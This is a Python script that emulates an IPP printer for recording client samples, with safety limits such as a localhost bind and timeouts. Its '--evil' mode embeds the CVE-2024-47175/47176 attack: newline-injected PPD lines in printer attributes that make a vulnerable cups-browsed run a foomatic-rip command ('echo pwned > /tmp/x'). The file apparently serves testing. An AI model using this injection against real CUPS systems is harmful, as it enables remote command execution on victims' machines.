#!/usr/bin/env python3
"""A small IPP printer (IPP/1.1 and 2.0 over HTTP/1.1, TCP 631), used only to record samples.

It plays an IPP Everywhere-ish printer (a "Canon MG5500 series" at ipp://ADDR:PORT/ipp/print)
just well enough for the real clients ``ipptool`` (its bundled get-printer-attributes.test
and print-job.test pass) and CUPS's ``ipp`` backend (it prints through it):

  * HTTP/1.1 with keep-alive, request bodies with Content-Length or chunked, and
    ``Expect: 100-continue`` answered with ``HTTP/1.1 100 Continue``;
  * the IPP request header and attributes are parsed (any tag, collections included); the
    answer echoes the request-id, attributes-charset and attributes-natural-language;
  * Get-Printer-Attributes: the whole printer description (make and model, device ID,
    firmware, state, operations, formats, media-col-default, ...);
  * Print-Job, Validate-Job, Create-Job, Send-Document, Get-Jobs, Get-Job-Attributes,
    Cancel-Job: successful-ok, with job-id / job-uri / job-state (jobs complete at once);
    ``--no-create-job`` leaves Create-Job and Send-Document out of operations-supported (they
    are still answered), so that CUPS's ipp backend sends one Print-Job;
  * Pause-Printer, Resume-Printer, Purge-Jobs, Set-Printer-Attributes and the CUPS
    administrative operations (0x4001-0x4FFF): client-error-not-authorized;
  * anything else: server-error-operation-not-supported.

With ``--evil`` it plays the malicious printer of CVE-2024-47175/47176: printer-make-and-model,
printer-info and printer-privacy-policy-uri carry a newline followed by PPD lines
(``*FoomaticRIPCommandLine: "echo pwned > /tmp/x"`` and a ``*cupsFilter2`` that runs
foomatic-rip), which a vulnerable cups-browsed/libppd copies into a generated PPD.

It never stores a document (it counts its bytes and logs the first few) unless given
``--save-dir DIR``: then the documents of job ID (Print-Job, Send-Document) are written to
DIR/ipp-job-ID.bin, in full or not at all (a document longer than the 256 KiB a request keeps
is only logged).

Safety properties:
  * it binds to one address (127.0.0.1 by default) and never initiates traffic;
  * at most ``--max-connections`` connections in all and 8 at a time, then it exits;
  * it exits after ``--timeout`` seconds in all and drops a connection idle for ``--idle``
    seconds;
  * header blocks are capped at 16 KiB, a request body at ``--max-body`` bytes (a larger one
    ends the connection).

It prints ``READY`` on stdout once listening, and one line per request on stderr.  Python 3
standard library only.
"""

import argparse
import os
import signal
import struct
import sys
import threading
import time

from bounded_server import Closed, Conn, connections, listen

# value tags
T_INTEGER, T_BOOLEAN, T_ENUM = 0x21, 0x22, 0x23
T_OCTETS, T_DATETIME, T_RESOLUTION, T_RANGE = 0x30, 0x31, 0x32, 0x33
T_BEGCOL, T_ENDCOL, T_MEMBER = 0x34, 0x37, 0x4A
T_TEXT, T_NAME, T_KEYWORD, T_URI, T_URISCHEME = 0x41, 0x42, 0x44, 0x45, 0x46
T_CHARSET, T_LANGUAGE, T_MIME = 0x47, 0x48, 0x49
# group tags
G_OPERATION, G_JOB, G_END, G_PRINTER, G_UNSUPPORTED = 0x01, 0x02, 0x03, 0x04, 0x05

OK, OK_IGNORED = 0x0000, 0x0001
E_BAD_REQUEST, E_NOT_AUTHORIZED, E_NOT_FOUND = 0x0400, 0x0403, 0x0406
E_OP_NOT_SUPPORTED, E_VERSION = 0x0501, 0x0503

OPS = {
    0x0002: "Print-Job", 0x0003: "Print-URI", 0x0004: "Validate-Job", 0x0005: "Create-Job",
    0x0006: "Send-Document", 0x0008: "Cancel-Job", 0x0009: "Get-Job-Attributes",
    0x000A: "Get-Jobs", 0x000B: "Get-Printer-Attributes", 0x0010: "Pause-Printer",
    0x0011: "Resume-Printer", 0x0012: "Purge-Jobs", 0x0013: "Set-Printer-Attributes",
    0x4003: "CUPS-Add-Modify-Printer", 0x4004: "CUPS-Delete-Printer",
}
ADMIN_OPS = {0x0010, 0x0011, 0x0012, 0x0013}

MAX_HEADERS = 16 * 1024
KEEP_BODY = 256 * 1024
MAX_CONCURRENT = 8

EVIL_TAIL = ('\n*FoomaticRIPCommandLine: "echo pwned > /tmp/x"\n'
             '*cupsFilter2: "application/pdf application/vnd.cups-postscript 0 foomatic-rip"')


def log(msg):
    print(msg, file=sys.stderr, flush=True)


# --- IPP encoding -------------------------------------------------------------------

def _s(v):
    return v.encode("utf-8") if isinstance(v, str) else v


def attr(tag, name, values):
    """One attribute (one or more values of one tag); values are str/bytes/int/bool."""
    if not isinstance(values, list):
        values = [values]
    out = b""
    for i, v in enumerate(values):
        n = _s(name) if i == 0 else b""
        if tag in (T_INTEGER, T_ENUM):
            data = struct.pack(">i", v)
        elif tag == T_BOOLEAN:
            data = b"\x01" if v else b"\x00"
        else:
            data = _s(v)
        out += struct.pack(">BH", tag, len(n)) + n + struct.pack(">H", len(data)) + data
    return out


def collection(name, members):
    """A collection attribute; members: list of (name, tag, value) or (name, members-list)."""
    return _collection_value(_s(name), members)


def _collection_value(name, members):
    out = struct.pack(">BH", T_BEGCOL, len(name)) + name + b"\x00\x00"
    for m in members:
        mname = _s(m[0])
        out += struct.pack(">BHH", T_MEMBER, 0, len(mname)) + mname
        if len(m) == 2:
            out += _collection_value(b"", m[1])
        else:
            out += attr(m[1], b"", m[2])
    out += struct.pack(">BHH", T_ENDCOL, 0, 0)
    return out


def resolution(x, y, units=3):
    return struct.pack(">iiB", x, y, units)


def rng(lo, hi):
    return struct.pack(">ii", lo, hi)


# --- IPP decoding -------------------------------------------------------------------

class Request:
    def __init__(self, data):
        if len(data) < 9:
            raise ValueError("short IPP message")
        self.major, self.minor = data[0], data[1]
        self.op, self.request_id = struct.unpack(">HI", data[2:8])
        self.groups = []          # [(group tag, [(name, tag, value bytes)])]
        self.document = b""
        pos, cur, last = 8, None, None
        while pos < len(data):
            tag = data[pos]
            pos += 1
            if tag == G_END:
                self.document = data[pos:]
                return
            if tag < 0x10:
                cur = (tag, [])
                self.groups.append(cur)
                continue
            if pos + 2 > len(data):
                raise ValueError("truncated attribute")
            (nlen,) = struct.unpack(">H", data[pos:pos + 2])
            name = data[pos + 2:pos + 2 + nlen].decode("utf-8", "replace")
            pos += 2 + nlen
            (vlen,) = struct.unpack(">H", data[pos:pos + 2])
            value = data[pos + 2:pos + 2 + vlen]
            pos += 2 + vlen
            if pos > len(data):
                raise ValueError("truncated attribute")
            if cur is None:
                raise ValueError("attribute outside a group")
            if nlen == 0 and last is not None:
                name = last
            last = name
            cur[1].append((name, tag, value))
        raise ValueError("no end-of-attributes tag")

    def first(self, name):
        for _, attrs in self.groups:
            for n, _, v in attrs:
                if n == name:
                    return v
        return None

    def summary(self):
        parts = []
        for g, attrs in self.groups:
            seen = []
            for n, _, _ in attrs:
                if n not in seen:
                    seen.append(n)
            parts.append(f"group {g}: " + ",".join(seen[:20]))
        return "; ".join(parts)


# --- the printer --------------------------------------------------------------------

class Printer:
    def __init__(self, args):
        self.args = args
        self.host = f"{args.uri_host or args.addr}:{args.port}"
        self.uri = f"ipp://{self.host}/ipp/print"
        self.start = time.time()
        self.lock = threading.Lock()
        self.jobs = {}            # id -> dict
        self.next_job = 1

    def printer_attrs(self):
        a = self.args
        model = "Canon MG5500 series"
        info, model_attr = model, model
        privacy = f"http://{a.uri_host or a.addr}/privacy.html"
        if a.evil:
            info = model + EVIL_TAIL
            model_attr = model + EVIL_TAIL
            privacy = ('https://www.example.com/"\n*FoomaticRIPCommandLine: "echo pwned > '
                       '/tmp/x"\n*cupsFilter2 : "application/pdf '
                       'application/vnd.cups-postscript 0 foomatic-rip')
        up = int(time.time() - self.start) + 1
        formats = ["application/octet-stream", "application/pdf", "application/postscript",
                   "image/pwg-raster", "image/urf"]
        a4 = [("media-size", [("x-dimension", T_INTEGER, 21000),
                              ("y-dimension", T_INTEGER, 29700)]),
              ("media-type", T_KEYWORD, "stationery"),
              ("media-source", T_KEYWORD, "main")]
        out = b"".join([
            attr(T_URI, "printer-uri-supported", [self.uri]),
            attr(T_KEYWORD, "uri-authentication-supported", ["none"]),
            attr(T_KEYWORD, "uri-security-supported", ["none"]),
            attr(T_NAME, "printer-name", "MG5500"),
            attr(T_TEXT, "printer-location", "Floor 2, room 214"),
            attr(T_TEXT, "printer-info", info),
            attr(T_URI, "printer-more-info", f"http://{a.uri_host or a.addr}/"),
            attr(T_TEXT, "printer-make-and-model", model_attr),
            attr(T_TEXT, "printer-device-id",
                 "MFG:Canon;CMD:URF,PDF,PostScript,PWGRaster;MDL:MG5500 series;"
                 "CLS:PRINTER;DES:Canon MG5500 series;CID:CA_IJ_CUPS;"),
            attr(T_NAME, "printer-firmware-name", ["MG5500"]),
            attr(T_TEXT, "printer-firmware-string-version", ["1.030"]),
            attr(T_OCTETS, "printer-firmware-version", [b"\x01\x03\x00"]),
            attr(T_URI, "printer-uuid", "urn:uuid:00000000-0000-1000-8000-001e8f123456"),
            attr(T_URI, "printer-privacy-policy-uri", privacy),
            attr(T_ENUM, "printer-state", 3),
            attr(T_KEYWORD, "printer-state-reasons", ["none"]),
            attr(T_TEXT, "printer-state-message", "Idle"),
            attr(T_BOOLEAN, "printer-is-accepting-jobs", True),
            attr(T_INTEGER, "printer-up-time", up),
            attr(T_INTEGER, "queued-job-count", 0),
            attr(T_ENUM, "operations-supported", self.ops_supported()),
            attr(T_KEYWORD, "ipp-versions-supported", ["1.0", "1.1", "2.0"]),
            attr(T_KEYWORD, "ipp-features-supported", ["ipp-everywhere"]),
            attr(T_CHARSET, "charset-configured", "utf-8"),
            attr(T_CHARSET, "charset-supported", ["utf-8"]),
            attr(T_LANGUAGE, "natural-language-configured", "en"),
            attr(T_LANGUAGE, "generated-natural-language-supported", ["en"]),
            attr(T_MIME, "document-format-default", "application/octet-stream"),
            attr(T_MIME, "document-format-supported", formats),
            attr(T_KEYWORD, "compression-supported", ["none"]),
            attr(T_KEYWORD, "pdl-override-supported", "attempted"),
            attr(T_BOOLEAN, "multiple-document-jobs-supported", False),
            attr(T_KEYWORD, "job-creation-attributes-supported",
                 ["copies", "media", "media-col", "sides", "print-color-mode"]),
            attr(T_INTEGER, "copies-default", 1),
            attr(T_RANGE, "copies-supported", [rng(1, 99)]),
            attr(T_KEYWORD, "media-default", "iso_a4_210x297mm"),
            attr(T_KEYWORD, "media-supported", ["iso_a4_210x297mm", "na_letter_8.5x11in"]),
            attr(T_KEYWORD, "media-ready", ["iso_a4_210x297mm"]),
            collection("media-col-default", a4),
            attr(T_KEYWORD, "sides-default", "one-sided"),
            attr(T_KEYWORD, "sides-supported", ["one-sided"]),
            attr(T_BOOLEAN, "color-supported", True),
            attr(T_KEYWORD, "print-color-mode-default", "auto"),
            attr(T_KEYWORD, "print-color-mode-supported", ["auto", "color", "monochrome"]),
            attr(T_RESOLUTION, "printer-resolution-default", resolution(600, 600)),
            attr(T_RESOLUTION, "printer-resolution-supported", [resolution(600, 600)]),
            attr(T_URISCHEME, "reference-uri-schemes-supported", ["http"]),
        ])
        return out

    def ops_supported(self):
        if self.args.no_create_job:
            return [0x0002, 0x0004, 0x0008, 0x0009, 0x000A, 0x000B]
        return [0x0002, 0x0004, 0x0005, 0x0006, 0x0008, 0x0009, 0x000A, 0x000B]

    def job_attrs(self, job):
        return b"".join([
            attr(T_INTEGER, "job-id", job["id"]),
            attr(T_URI, "job-uri", f"{self.uri}/{job['id']}"),
            attr(T_URI, "job-printer-uri", self.uri),
            attr(T_ENUM, "job-state", job["state"]),
            attr(T_KEYWORD, "job-state-reasons",
                 ["job-completed-successfully" if job["state"] == 9 else "none"]),
            attr(T_TEXT, "job-state-message", "Completed" if job["state"] == 9 else "Pending"),
            attr(T_NAME, "job-name", job["name"]),
            attr(T_NAME, "job-originating-user-name", job["user"]),
            attr(T_INTEGER, "job-impressions-completed", 1 if job["state"] == 9 else 0),
        ])

    def new_job(self, req, state):
        with self.lock:
            jid = self.next_job
            self.next_job += 1
            job = {"id": jid, "state": state,
                   "name": (req.first("job-name") or b"untitled").decode("utf-8", "replace"),
                   "user": (req.first("requesting-user-name") or b"anonymous")
                   .decode("utf-8", "replace"),
                   "bytes": 0}
            self.jobs[jid] = job
        return job

    def save(self, job, req, doc_len):
        """With --save-dir: appends the request's document to SAVE_DIR/ipp-job-ID.bin."""
        if not self.args.save_dir or not doc_len:
            return
        if len(req.document) != doc_len:
            log(f"job {job['id']}: document of {doc_len} bytes not kept whole, not saved")
            return
        with open(os.path.join(self.args.save_dir, f"ipp-job-{job['id']}.bin"), "ab") as f:
            f.write(req.document)

    def find_job(self, req):
        jid = req.first("job-id")
        if jid is not None and len(jid) == 4:
            return self.jobs.get(struct.unpack(">i", jid)[0])
        juri = req.first("job-uri")
        if juri:
            try:
                return self.jobs.get(int(juri.rsplit(b"/", 1)[1]))
            except (ValueError, IndexError):
                return None
        return None

    def answer(self, req, doc_len):
        """Returns (status, [(group tag, bytes)])."""
        op = req.op
        if req.major not in (1, 2):
            return E_VERSION, []
        if op == 0x000B:
            return OK, [(G_PRINTER, self.printer_attrs())]
        if op == 0x0004:
            return OK, []
        if op == 0x0002:
            job = self.new_job(req, 9)
            job["bytes"] = doc_len
            self.save(job, req, doc_len)
            return OK, [(G_JOB, self.job_attrs(job))]
        if op == 0x0005:
            job = self.new_job(req, 3)
            return OK, [(G_JOB, self.job_attrs(job))]
        if op == 0x0006:
            job = self.find_job(req)
            if job is None:
                return E_NOT_FOUND, []
            job["bytes"] += doc_len
            self.save(job, req, doc_len)
            if req.first("last-document") != b"\x00":
                job["state"] = 9
            return OK, [(G_JOB, self.job_attrs(job))]
        if op == 0x0009:
            job = self.find_job(req)
            if job is None:
                return E_NOT_FOUND, []
            return OK, [(G_JOB, self.job_attrs(job))]
        if op == 0x000A:
            which = req.first("which-jobs") or b"not-completed"
            jobs = [j for j in self.jobs.values()
                    if (j["state"] == 9) == (which == b"completed") or which == b"all"]
            return OK, [(G_JOB, self.job_attrs(j)) for j in jobs]
        if op == 0x0008:
            job = self.find_job(req)
            if job is None:
                return E_NOT_FOUND, []
            if job["state"] < 7:
                job["state"] = 7
            return OK, []
        if op in ADMIN_OPS or 0x4000 <= op <= 0x4FFF:
            return E_NOT_AUTHORIZED, []
        return E_OP_NOT_SUPPORTED, []


def encode_response(req, status, groups):
    charset = req.first("attributes-charset") if req else None
    lang = req.first("attributes-natural-language") if req else None
    if not charset or len(charset) > 40 or not charset.isascii():
        charset = b"utf-8"
    if not lang or len(lang) > 40 or not lang.isascii():
        lang = b"en"
    major, minor = (req.major, req.minor) if req and req.major in (1, 2) else (1, 1)
    rid = req.request_id if req else 0
    out = struct.pack(">BBHI", major, minor, status, rid)
    out += bytes([G_OPERATION]) + attr(T_CHARSET, "attributes-charset", charset)
    out += attr(T_LANGUAGE, "attributes-natural-language", lang)
    if status >= 0x0400:
        out += attr(T_TEXT, "status-message",
                    {E_NOT_AUTHORIZED: "Not authorized.", E_NOT_FOUND: "Job not found.",
                     E_OP_NOT_SUPPORTED: "Operation not supported.",
                     E_VERSION: "Version not supported.",
                     E_BAD_REQUEST: "Bad request."}.get(status, "Error."))
    for tag, data in groups:
        out += bytes([tag]) + data
    return out + bytes([G_END])


# --- HTTP ---------------------------------------------------------------------------

def read_body(c, headers, max_body):
    """Returns (kept bytes, total length)."""
    kept, total = b"", 0
    if "chunked" in headers.get("transfer-encoding", "").lower():
        while True:
            line = c.until(b"\r\n", 1024)
            try:
                size = int(line.split(b";")[0].strip(), 16)
            except ValueError:
                raise Closed(f"bad chunk size {line[:40]!r}")
            if size == 0:
                while c.until(b"\r\n", MAX_HEADERS):   # trailers
                    pass
                return kept, total
            total += size
            if total > max_body:
                raise Closed("request body too large")
            data = c.take(size)
            if len(kept) < KEEP_BODY:
                kept += data[:KEEP_BODY - len(kept)]
            c.until(b"\r\n", 2)
    n = int(headers.get("content-length", "0") or 0)
    if n < 0 or n > max_body:
        raise Closed("request body too large")
    left = n
    while left:
        part = c.take(min(left, 65536))
        left -= len(part)
        if len(kept) < KEEP_BODY:
            kept += part[:KEEP_BODY - len(kept)]
    return kept, n


def http_response(code, reason, body=b"", ctype="application/ipp", close=False):
    head = [f"HTTP/1.1 {code} {reason}", "Server: CUPS/2.4 IPP/2.0",
            f"Content-Length: {len(body)}"]
    if body:
        head.append(f"Content-Type: {ctype}")
    if close:
        head.append("Connection: close")
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body


def serve_conn(printer, sock, peer, n, deadline, args):
    c = Conn(sock, deadline, args.idle)
    requests = 0
    try:
        while requests < 64:
            head = c.until(b"\r\n\r\n", MAX_HEADERS).decode("latin-1")
            lines = head.split("\r\n")
            parts = lines[0].split(" ")
            if len(parts) != 3:
                c.send(http_response(400, "Bad Request", close=True))
                return
            method, path, version = parts
            headers = {}
            for line in lines[1:]:
                k, _, v = line.partition(":")
                headers[k.strip().lower()] = v.strip()
            requests += 1
            close = (headers.get("connection", "").lower() == "close"
                     or version == "HTTP/1.0")
            if method != "POST":
                log(f"[{n}] {method} {path}")
                if method == "OPTIONS":
                    c.send(http_response(200, "OK", close=close))
                else:
                    body = b"Not found"
                    c.send(http_response(404, "Not Found", body, "text/plain", close))
                if close:
                    return
                continue
            if headers.get("expect", "").lower() == "100-continue":
                c.send(b"HTTP/1.1 100 Continue\r\n\r\n")
            body, total = read_body(c, headers, args.max_body)
            try:
                req = Request(body)
            except ValueError as e:
                log(f"[{n}] POST {path}: bad IPP ({e})")
                c.send(http_response(400, "Bad Request", close=True))
                return
            doc_len = total - (len(body) - len(req.document))
            status, groups = printer.answer(req, doc_len)
            opname = OPS.get(req.op, f"0x{req.op:04x}")
            log(f"[{n}] POST {path} IPP/{req.major}.{req.minor} {opname} "
                f"request-id {req.request_id} -> 0x{status:04x}; {req.summary()}"
                + (f"; document {doc_len} bytes {req.document[:40]!r}" if doc_len else ""))
            c.send(http_response(200, "OK", encode_response(req, status, groups), close=close))
            if close:
                return
    except Closed as e:
        log(f"[{n}] closed: {e}")
    finally:
        sock.close()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--addr", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=631)
    ap.add_argument("--uri-host", help="host name in the URIs it hands out (default: --addr)")
    ap.add_argument("--evil", action="store_true", help="PPD lines in text attributes")
    ap.add_argument("--no-create-job", action="store_true",
                    help="leave Create-Job and Send-Document out of operations-supported "
                         "(CUPS's ipp backend then uses Print-Job)")
    ap.add_argument("--max-connections", type=int, default=32)
    ap.add_argument("--timeout", type=float, default=120.0, help="overall limit (s)")
    ap.add_argument("--idle", type=float, default=10.0, help="per-connection idle limit (s)")
    ap.add_argument("--max-body", type=int, default=8 << 20)
    ap.add_argument("--save-dir", help="write job ID's documents to SAVE_DIR/ipp-job-ID.bin")
    args = ap.parse_args()

    printer = Printer(args)
    deadline = time.monotonic() + args.timeout
    srv = listen(args.addr, args.port, backlog=8)

    slots = threading.BoundedSemaphore(MAX_CONCURRENT)
    threads = []
    # SIGTERM (how the recorders end it) still prints the job summary below.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        serve(srv, printer, deadline, args, slots, threads)
    finally:
        srv.close()
        log(f"ipp_responder: jobs "
            + ", ".join(f"{j['id']}:{j['bytes']}B" for j in printer.jobs.values()))
    return 0


def serve(srv, printer, deadline, args, slots, threads):
    handled = 0
    for handled, sock, peer in connections(srv, deadline, args.max_connections,
                                           keep_waiting=True):
        if not slots.acquire(blocking=False):
            log(f"connection {handled} from {peer[0]}:{peer[1]}: too many, closed")
            sock.close()
            continue
        log(f"connection {handled} from {peer[0]}:{peer[1]}")

        def run(sock=sock, peer=peer, n=handled):
            try:
                serve_conn(printer, sock, peer, n, deadline, args)
            finally:
                slots.release()
        t = threading.Thread(target=run, daemon=True)
        t.start()
        threads.append(t)
    for t in threads:
        t.join(max(0.0, deadline - time.monotonic()))
    log(f"ipp_responder: {handled} connection(s)")


if __name__ == "__main__":
    sys.exit(main())
